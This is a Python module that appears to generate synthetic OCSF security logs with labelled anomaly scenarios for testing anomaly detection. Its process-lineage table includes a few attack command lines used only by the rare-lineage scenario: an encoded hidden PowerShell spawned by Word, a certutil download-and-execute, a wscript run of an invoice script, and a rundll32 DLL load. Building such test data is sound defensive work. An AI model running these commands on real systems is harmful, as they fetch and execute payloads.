    "svc-ci-deploy": {"GetAuthorizationToken": 3, "BatchGetImage": 3, "UpdateService": 2, "PutObject": 1,
                      "AssumeRole": 2, "GetCallerIdentity": 1, "DescribeInstances": 1},
    "svc-backup": {"CreateSnapshot": 4, "PutObject": 6, "ListBucket": 1, "DescribeInstances": 1},
    "svc-etl": {"GetObject": 5, "PutObject": 3, "StartJobRun": 1, "GetItem": 1},
    "svc-monitoring": {"GetMetricData": 8, "DescribeInstances": 3, "LookupEvents": 0.5},
    "svc-reporting": {"GetObject": 3, "PutObject": 1, "GetItem": 2},
    "svc-orders-app": {"GetItem": 5, "PutItem": 3, "Decrypt": 2},
    "svc-payments-app": {"Decrypt": 3, "GetItem": 2, "PutItem": 1},
    "svc-log-shipper": {"PutLogEvents": 10},
    "svc-terraform": {"DescribeInstances": 2, "GetRole": 2, "ListRoles": 1, "ListBucket": 1,
                      "GetCallerIdentity": 1, "AuthorizeSecurityGroupIngress": 0.2, "PutRolePolicy": 0.1,
                      "RunInstances": 0.2},
    "svc-jira-sync": {"GetObject": 1},
    "svc-scanner": {"DescribeInstances": 2, "ListBucket": 2, "GetRole": 1},
    "svc-ldap-sync": {"GetCallerIdentity": 1},
}

_SYSTEM_USERS = ("NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "root")
_DOCS = ("Q1-forecast-v3", "board-deck-march", "offer-letter-draft", "vendor-contract-2026", "budget-FY26",
         "team-offsite-notes", "pricing-eu-v7", "invoice-batch-0311", "kpi-dashboard-export", "onboarding-checklist")

# Process lineages: (parent name, parent path, child name, child path, host groups -> weight, ..., cmd, user)
# host groups: "win:laptop:office", "win:laptop:tech", "mac:laptop:*", "linux:laptop:tech", "linux:<role>", "win:<role>"
_WIN_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
LINEAGES = (
    ("explorer.exe", "C:\\Windows\\explorer.exe", "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     {"win:laptop:office": 8, "win:laptop:tech": 6}, None, '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "owner"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", {"win:laptop:office": 18, "win:laptop:tech": 14}, None,
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --renderer-client-id={n} --field-trial-handle=1868,i,{hex}', "owner"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "OUTLOOK.EXE", _WIN_OFFICE + "OUTLOOK.EXE",
     {"win:laptop:office": 4, "win:laptop:tech": 2}, None, f'"{_WIN_OFFICE}OUTLOOK.EXE"', "owner"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "WINWORD.EXE", _WIN_OFFICE + "WINWORD.EXE",
     {"win:laptop:office": 3, "win:laptop:tech": 0.8}, None, f'"{_WIN_OFFICE}WINWORD.EXE" /n "C:\\Users\\{{user}}\\Documents\\{{doc}}.docx"', "owner"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "EXCEL.EXE", _WIN_OFFICE + "EXCEL.EXE",
     {"win:laptop:office": 3, "win:laptop:tech": 0.6}, None, f'"{_WIN_OFFICE}EXCEL.EXE" "C:\\Users\\{{user}}\\Documents\\{{doc}}.xlsx"', "owner"),
    ("WINWORD.EXE", _WIN_OFFICE + "WINWORD.EXE", "splwow64.exe", "C:\\Windows\\splwow64.exe",
     {"win:laptop:office": 0.3}, None, "C:\\Windows\\splwow64.exe 12288", "owner"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe",
     {"win:laptop:office": 3, "win:laptop:tech": 3}, None, "ms-teams.exe --processStartupTime={n}", "owner"),
    ("services.exe", "C:\\Windows\\System32\\services.exe", "svchost.exe", "C:\\Windows\\System32\\svchost.exe",
     {"win:laptop:office": 4, "win:laptop:tech": 4, "win:dc": 8, "win:fs": 8}, None, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "NT AUTHORITY\\SYSTEM"),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe",
     {"win:laptop:office": 2, "win:laptop:tech": 2, "win:dc": 3, "win:fs": 3}, None, "taskhostw.exe KEYROAMING", "NT AUTHORITY\\SYSTEM"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     {"win:laptop:tech": 2.5, "win:dc": 1.0}, None, "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Get-Inventory.ps1 -Batch {n}", "owner"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "cmd.exe", "C:\\Windows\\System32\\cmd.exe",
     {"win:laptop:tech": 0.8, "win:laptop:office": 0.05}, None, "cmd.exe /c ipconfig /all", "owner"),
    ("OUTLOOK.EXE", _WIN_OFFICE + "OUTLOOK.EXE", "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     {"win:laptop:office": 1.2, "win:laptop:tech": 0.6}, None,
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument https://example.sharepoint.com/sites/team/doc-{n}', "owner"),
    ("wsmprovhost.exe", "C:\\Windows\\System32\\wsmprovhost.exe", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     {"win:dc": 0.6, "win:fs": 0.4}, None, "powershell.exe -NoLogo -Command Get-ADUser -Filter * -SearchBase OU=Staff,DC=corp,DC=example,DC=com", "CORP\\svc-ldap-sync"),
    ("launchd", "/sbin/launchd", "Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
     {"mac:laptop:office": 6, "mac:laptop:tech": 5}, None, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "owner"),
    ("Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "Google Chrome Helper (Renderer)",
     "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/122.0.6261.112/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)",
     {"mac:laptop:office": 15, "mac:laptop:tech": 12}, None, "Google Chrome Helper (Renderer) --type=renderer --renderer-client-id={n} --seatbelt-client={n}", "owner"),
    ("launchd", "/sbin/launchd", "Slack", "/Applications/Slack.app/Contents/MacOS/Slack",
     {"mac:laptop:office": 3, "mac:laptop:tech": 3}, None, "/Applications/Slack.app/Contents/MacOS/Slack --startup", "owner"),
    ("launchd", "/sbin/launchd", "Microsoft Outlook", "/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook",
     {"mac:laptop:office": 3, "mac:laptop:tech": 1}, None, "/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", "owner"),
    ("zsh", "/bin/zsh", "git", "/usr/bin/git", {"mac:laptop:tech": 5, "linux:laptop:tech": 5}, None,
     "git pull --rebase origin main", "owner"),
    ("zsh", "/bin/zsh", "python3", "/opt/homebrew/bin/python3", {"mac:laptop:tech": 2.5, "linux:laptop:tech": 2.5}, None,
     "python3 -m pytest tests/ -x -n {n}", "owner"),
    ("zsh", "/bin/zsh", "ssh", "/usr/bin/ssh", {"mac:laptop:tech": 1.5, "linux:laptop:tech": 1.5}, None,
     "ssh -J bastion-01.corp.example.com app-orders-0{day}", "owner"),
    ("zsh", "/bin/zsh", "docker", "/usr/local/bin/docker", {"mac:laptop:tech": 1.2, "linux:laptop:tech": 1.2}, None,
     "docker compose up -d --build", "owner"),
    ("gnome-shell", "/usr/bin/gnome-shell", "firefox", "/usr/lib/firefox/firefox", {"linux:laptop:tech": 4}, None,
     "/usr/lib/firefox/firefox -contentproc -childID {n} -isForBrowser", "owner"),
    ("systemd", "/usr/lib/systemd/systemd", "sshd", "/usr/sbin/sshd",
     {"linux:app": 0.3, "linux:db": 0.3, "linux:bastion": 4, "linux:ci": 0.5, "linux:backup": 0.5, "linux:web": 0.3,
      "linux:edge": 0.3, "linux:mail": 0.3, "linux:dns": 0.3}, None, "sshd: {user} [priv]", "root"),
    ("sshd", "/usr/sbin/sshd", "bash", "/usr/bin/bash",
     {"linux:app": 0.3, "linux:db": 0.3, "linux:bastion": 4, "linux:backup": 0.3}, None, "-bash", "root"),
    ("cron", "/usr/sbin/cron", "sh", "/usr/bin/sh",
     {"linux:backup": 6, "linux:db": 2, "linux:app": 0.5, "linux:web": 1, "linux:mail": 1, "linux:dns": 1}, None,
     "/bin/sh -c /opt/backup/run-backup.sh --target db-orders-01 --job {n}", "root"),
    ("containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", "java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
     {"linux:app": 5}, None, "java -Xmx2g -XX:+UseG1GC -jar /app/service.jar --spring.profiles.active=prod --instance={hex}", "root"),
    ("bash", "/usr/bin/bash", "python3", "/usr/bin/python3", {"linux:app": 1.0, "linux:ci": 1.0}, None,
     "python3 /opt/etl/load_orders.py --date 2026-03-0{day} --batch {n}", "root"),
    ("gitlab-runner", "/usr/bin/gitlab-runner", "bash", "/usr/bin/bash", {"linux:ci": 6}, None,
     "bash -c docker build -t registry.example.com/orders:{hex} .", "root"),
    ("bash", "/usr/bin/bash", "docker", "/usr/bin/docker", {"linux:ci": 5}, None,
     "docker push registry.example.com/orders:{hex}", "root"),
    ("systemd", "/usr/lib/systemd/systemd", "postgres", "/usr/lib/postgresql/15/bin/postgres", {"linux:db": 4}, None,
     "postgres: orders orders_app 10.20.2.{n} idle", "postgres"),
    ("nginx", "/usr/sbin/nginx", "nginx", "/usr/sbin/nginx", {"linux:edge": 5, "linux:web": 3}, None,
     "nginx: worker process", "www-data"),
    ("systemd", "/usr/lib/systemd/systemd", "named", "/usr/sbin/named", {"linux:dns": 4}, None,
     "/usr/sbin/named -f -u bind", "bind"),
    ("systemd", "/usr/lib/systemd/systemd", "node_exporter", "/usr/local/bin/node_exporter",
     {"linux:app": 0.5, "linux:db": 0.5, "linux:ci": 0.5, "linux:edge": 0.5, "linux:bastion": 0.5, "linux:backup": 0.5,
      "linux:web": 0.5, "linux:mail": 0.5, "linux:dns": 0.5}, None, "/usr/local/bin/node_exporter --collector.systemd", "root"),
    ("systemd", "/usr/lib/systemd/systemd", "postfix", "/usr/lib/postfix/sbin/master", {"linux:mail": 3}, None,
     "/usr/lib/postfix/sbin/master -w", "root"),
    # never drawn for normal activity: only the rare_process_lineage scenario launches these
    ("WINWORD.EXE", _WIN_OFFICE + "WINWORD.EXE", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     {}, None, "powershell.exe -nop -w hidden -enc {b64}", "owner"),
    ("EXCEL.EXE", _WIN_OFFICE + "EXCEL.EXE", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", {}, None,
     "cmd.exe /c certutil -urlcache -split -f http://{ip}/{name}.txt %TEMP%\\{name}.exe && %TEMP%\\{name}.exe", "owner"),
    ("OUTLOOK.EXE", _WIN_OFFICE + "OUTLOOK.EXE", "wscript.exe", "C:\\Windows\\System32\\wscript.exe", {}, None,
     '"C:\\Windows\\System32\\wscript.exe" "C:\\Users\\{user}\\AppData\\Local\\Temp\\Invoice_{n}.js"', "owner"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "whoami.exe",
     "C:\\Windows\\System32\\whoami.exe", {}, None, "whoami /all", "owner"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "rundll32.exe",
     "C:\\Windows\\System32\\rundll32.exe", {}, None, "rundll32.exe C:\\Users\\Public\\{hex}.dll,DllRegisterServer", "owner"),
)
_LINEAGE_INDEX = {(x[0], x[2]): i for i, x in enumerate(LINEAGES)}


def _lineage_weights(group: str) -> np.ndarray:
    w = np.array([x[4].get(group, 0.0) for x in LINEAGES])
    if w.sum() == 0:
        w = np.array([x[4].get("linux:app", 0.0) for x in LINEAGES])
    return w / w.sum()


# Detection rules: (title, sid, base severity, weights for (server, windows laptop, other laptop))
RULES = (
    ("ET POLICY curl User-Agent Outbound", 2013028, 1, (8, 0.2, 0.6)),
    ("ET INFO Python-requests User-Agent Outbound", 2017515, 1, (4, 0.1, 0.6)),
    ("ET POLICY PE EXE or DLL Windows file download HTTP", 2018959, 2, (0, 2.5, 0)),
    ("ET INFO Observed DNS Query to .cloud TLD", 2027865, 1, (0.5, 1.5, 1.5)),
    ("ET POLICY Dropbox.com Offsite File Backup in Use", 2012647, 2, (0, 1.2, 1.2)),
    ("ET INFO TLS Handshake Failure", 2029340, 1, (2, 0.8, 0.8)),
    ("GPL ICMP_INFO PING *NIX", 2100366, 1, (1.5, 0, 0.3)),
    ("ET POLICY SSH session in progress on Unusual Port", 2001984, 2, (0.6, 0, 0.4)),
    ("ET SCAN Possible Nmap User-Agent Observed", 2024364, 3, (0.15, 0.02, 0.05)),
    ("ET INFO Windows Powershell User-Agent Usage", 2032169, 2, (0.2, 1.0, 0)),
)


# --------------------------------------------------------------------------------------------------
# assembly
# --------------------------------------------------------------------------------------------------
_FLOAT_SUFFIXES = (".lat", ".long")
_COMMON_ORDER = (
    "time", "time_dt", "metadata.uid", "class_uid", "class_name", "category_uid", "category_name", "activity_id",
    "activity_name", "type_uid", "type_name", "severity_id", "severity", "status_id", "status", "status_code",
    "status_detail", "message", "metadata.version", "metadata.product.name", "metadata.product.vendor_name",
    "metadata.product.version", "metadata.product.lang",
)


def _parse_start(start: str | int | pd.Timestamp) -> int:
    if isinstance(start, (int, np.integer)):
        return int(start)
    ts = pd.Timestamp(start)
    if ts.tzinfo is None:
        ts = ts.tz_localize("UTC")
    return int(ts.tz_convert("UTC").value // 1_000_000)


def _to_arrow(v: np.ndarray, kind: str) -> pa.Array:
    if kind == "str":
        return pa.array(v, type=pa.large_string(), from_pandas=True)
    if kind == "float":
        return pa.array(np.asarray(v, dtype=np.float64), type=pa.float64(), from_pandas=True)
    if v.dtype.kind == "f":
        miss = np.isnan(v)
        return pa.array(np.where(miss, 0, v).astype(np.int64), type=pa.int64(), mask=miss if miss.any() else None)
    return pa.array(v.astype(np.int64), type=pa.int64())


_ARROW = {"str": pa.large_string(), "float": pa.float64(), "int": pa.int64()}


def _assemble(blocks: list[Block]) -> tuple[list[str], dict[str, pa.ChunkedArray], int]:
    """Stack the class blocks into one sparse table: a column a block lacks is a chunk of nulls."""
    order: list[str] = [c for c in _COMMON_ORDER if c not in ("time_dt", "metadata.uid")]
    seen = set(order)
    for b in blocks:
        for c in b.cols:
            if c not in seen:
                seen.add(c)
                order.append(c)
    kinds: dict[str, str] = {}
    for b in blocks:
        for c, v in b.cols.items():
            kinds.setdefault(c, "str" if v.dtype == object else "float" if c.endswith(_FLOAT_SUFFIXES) else "int")
    out: dict[str, pa.ChunkedArray] = {}
    for c in order:
        if c not in kinds:
            continue
        k = kinds[c]
        chunks = [_to_arrow(b.cols[c], k) if c in b.cols else pa.nulls(b.n, type=_ARROW[k]) for b in blocks]
        out[c] = pa.chunked_array(chunks, type=_ARROW[k])
    return [c for c in order if c in out], out, sum(b.n for b in blocks)


def simulate(n_events: int = 100_000, days: int = 7, seed: int = 0, start: str = "2026-03-02T00:00:00Z",
             n_users: int = 240) -> Simulation:
    """Simulate ``n_events`` OCSF events over ``days`` days, with labelled anomalies.

    ``n_events`` is exact (normal events + scenario events + 0.5 % exact duplicates). Anomalies make up
    about 1.7 % of events at 100k (each scenario has a minimum size, so below ~20k events the share grows,
    to ~6 % at 5k); the scenarios and their signatures are in :data:`obsad.ocsf.scenarios.SCENARIOS`.
    ``start`` is an ISO time (UTC) or epoch ms; ``n_users`` the number of people in the organisation.
    """
    from .scenarios import SCENARIOS, plan

    if n_events < 5_000:
        raise ValueError("simulate needs n_events >= 5000 so that every scenario fits")
    if days < 1:
        raise ValueError("days must be >= 1")
    rng = np.random.default_rng(seed)
    start_ms = _parse_start(start)
    pop = build_population(rng, n_humans=n_users, start_ms=start_ms, days=days)
    sim = _Sim(rng, pop, start_ms, days)

    sizes = plan(n_events, days)
    n_dup = int(round(DUPLICATE_RATE * n_events))
    n_extra = sum(s.added for s in sizes.values())
    n_normal = n_events - n_dup - n_extra
    shares = np.array([CLASS_SHARES[c] for c in CLASS_ORDER])
    counts = np.floor(shares / shares.sum() * n_normal).astype(int)
    counts[list(CLASS_ORDER).index("net")] += n_normal - counts.sum()

    normal = {c: sim.normal(c, int(k)) for c, k in zip(CLASS_ORDER, counts)}
    # scenarios: new events drawn with the same machinery, or normal events changed in place
    injected: list[tuple[str | None, str, dict, np.ndarray]] = []  # (scenario or None, class, P, entity)
    inplace: list[tuple[str, str, np.ndarray, np.ndarray]] = []  # (scenario, class, rows, entity per row)
    for name, sc in SCENARIOS.items():
        res = sc.generate(sim, normal, sizes[name])
        for r in res:
            if r.rows is None:
                injected.append((name if r.label else None, r.cls, r.P, r.entity))
            else:
                inplace.append((name, r.cls, r.rows, r.entity))

    blocks: list[Block] = []
    scen_of_row: list[np.ndarray] = []
    entity_of_row: list[np.ndarray] = []
    for c in CLASS_ORDER:
        b = sim.render(c, normal[c])
        blocks.append(b)
        s = np.full(b.n, None, dtype=object)
        e = np.full(b.n, None, dtype=object)
        for name, cls, rows, ent in inplace:
            if cls == c:
                s[rows] = name
                e[rows] = ent
        scen_of_row.append(s)
        entity_of_row.append(e)
    for name, cls, P, ent in injected:
        b = sim.render(cls, P)
        blocks.append(b)
        scen_of_row.append(np.full(b.n, name, dtype=object))
        entity_of_row.append(np.asarray(ent, dtype=object) if name else np.full(b.n, None, dtype=object))

    order, cols, total = _assemble(blocks)
    scen = np.concatenate(scen_of_row)
    ent = np.concatenate(entity_of_row)
    uid = sim.uuids(total)
    times = np.concatenate([b.cols["time"] for b in blocks]).astype(np.int64)
    # exact duplicates as shippers produce them (at-least-once delivery): same row, same uid
    dup = np.sort(rng.choice(total, size=n_dup, replace=False))
    take = np.concatenate([np.arange(total), dup])
    srt = take[np.argsort(times[take], kind="stable")]
    t_sorted = times[srt]

    table = pa.table({c: cols[c] for c in order if c != "time"}).take(pa.array(srt))
    table = table.add_column(0, "metadata.uid", pa.array(uid[srt], type=pa.large_string()))
    iso = np.strings.add(np.datetime_as_string(t_sorted.astype("datetime64[ms]"), unit="ms"), "Z")
    table = table.add_column(0, "time_dt", pa.array(iso.astype(object), type=pa.large_string()))
    table = table.add_column(0, "time", pa.array(t_sorted, type=pa.int64()))
    events = table.combine_chunks().to_pandas(types_mapper={pa.int64(): pd.Int64Dtype()}.get)
    events["time"] = events["time"].astype(np.int64)

    # labels: one row per anomalous event (duplicates share the uid, so they share the label)
    from .scenarios import SCENARIOS as REG

    lab_idx = np.flatnonzero(scen != None)  # noqa: E711
    first_pos = np.empty(total, dtype=np.int64)
    first_pos[srt[::-1]] = np.arange(len(srt))[::-1]
    lab_idx = lab_idx[np.argsort(first_pos[lab_idx], kind="stable")]
    labels = pd.DataFrame({
        "event_uid": pd.array(uid[lab_idx], dtype="str"),
        "scenario": pd.array(scen[lab_idx], dtype="str"),
        "category": pd.array([REG[s].category for s in scen[lab_idx]], dtype="str"),
        "shape": pd.array([REG[s].shape for s in scen[lab_idx]], dtype="str"),
        "entity": pd.array([str(e) for e in ent[lab_idx]], dtype="str"),
        "fields": [list(REG[s].fields) for s in scen[lab_idx]],
    })
    counts_by = {k: int((scen == k).sum()) for k in SCENARIOS}
    start_str = pd.Timestamp(start_ms, unit="ms", tz="UTC").strftime("%Y-%m-%dT%H:%M:%SZ")
    return Simulation(events=events, labels=labels, population=pop, seed=seed, start=start_str, days=days,
                      scenario_counts=counts_by)


def write_simulation(out_dir: str | os.PathLike, n_events: int = 100_000, days: int = 7, seed: int = 0,
                     start: str = "2026-03-02T00:00:00Z") -> dict[str, Path]:
    """Simulate and write ``ocsf_events.parquet`` and ``ocsf_labels.parquet`` atomically into ``out_dir``."""
    from ..io import write_parquet

    sim = simulate(n_events=n_events, days=days, seed=seed, start=start)
    out = Path(out_dir)
    return {
        "events": write_parquet(sim.events, out / "ocsf_events.parquet"),
        "labels": write_parquet(sim.labels, out / "ocsf_labels.parquet"),
    }
